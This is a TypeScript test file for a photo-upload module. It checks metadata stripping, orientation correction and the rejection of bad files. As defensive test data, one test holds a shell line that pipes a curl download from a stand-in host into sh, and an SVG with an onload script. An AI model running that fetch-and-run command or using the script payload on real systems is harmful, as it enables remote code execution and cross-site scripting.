import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { MAX_PHOTO_BYTES, photoSizes, processPhoto } from './photos.ts';

/** A JPEG photo 2000 × 1000 taken "at" Bangkok City Hall, with the camera turned (orientation 6). */
async function photoWithLocation(): Promise<Uint8Array> {
  const buffer = await sharp({
    create: { width: 2000, height: 1000, channels: 3, background: { r: 200, g: 120, b: 40 } },
  })
    .jpeg()
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Phone 12', Artist: 'Somsri' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '13/1 45/1 22/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '100/1 30/1 6/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
  return new Uint8Array(buffer);
}

describe('processPhoto', () => {
  it('keeps no metadata in any size, so the place a photo was taken is not published', async () => {
    const original = await photoWithLocation();
    const before = await sharp(original).metadata();
    expect(before.exif?.toString('latin1')).toContain('PhoneMaker');
    expect(before.orientation).toBe(6);
    const result = await processPhoto(original);
    if (!result.ok) throw new Error(`refused: ${result.problem}`);
    expect(result.variants.map((variant) => variant.size)).toEqual(['thumb', 'card', 'full']);
    for (const variant of result.variants) {
      const metadata = await sharp(variant.bytes).metadata();
      expect(metadata.format).toBe('webp');
      expect(metadata.exif).toBeUndefined();
      expect(metadata.xmp).toBeUndefined();
      expect(metadata.iptc).toBeUndefined();
    }
  });

  it('turns the photo upright by its orientation before resizing it to the widths the pages use', async () => {
    const result = await processPhoto(await photoWithLocation());
    if (!result.ok) throw new Error(`refused: ${result.problem}`);
    // Orientation 6 is a quarter turn: the 2000 × 1000 landscape is a 1000 × 2000 portrait.
    expect([result.width, result.height]).toEqual([1000, 2000]);
    const widths = Object.fromEntries(result.variants.map((variant) => [variant.size, variant.width]));
    expect(widths).toEqual({ thumb: photoSizes.thumb, card: photoSizes.card, full: 1000 });
    const thumb = result.variants.find((variant) => variant.size === 'thumb');
    expect(thumb?.height).toBe(photoSizes.thumb * 2);
  });

  it('refuses a script named like a photo, by what its bytes are', async () => {
    const script = new TextEncoder().encode('#!/bin/sh\ncurl http://example.invalid | sh\n');
    expect(await processPhoto(script)).toEqual({ ok: false, problem: 'not_an_image' });
    const html = new TextEncoder().encode('<svg onload="alert(1)"></svg>');
    expect(await processPhoto(html)).toEqual({ ok: false, problem: 'not_an_image' });
  });

  it('refuses a file over 10 MB before reading it', async () => {
    const large = new Uint8Array(MAX_PHOTO_BYTES + 1);
    expect(await processPhoto(large)).toEqual({ ok: false, problem: 'too_large', maxBytes: MAX_PHOTO_BYTES });
  });

  it('refuses a JPEG that is cut short', async () => {
    const photo = await photoWithLocation();
    expect(await processPhoto(photo.slice(0, 400))).toEqual({ ok: false, problem: 'unreadable' });
  });
});
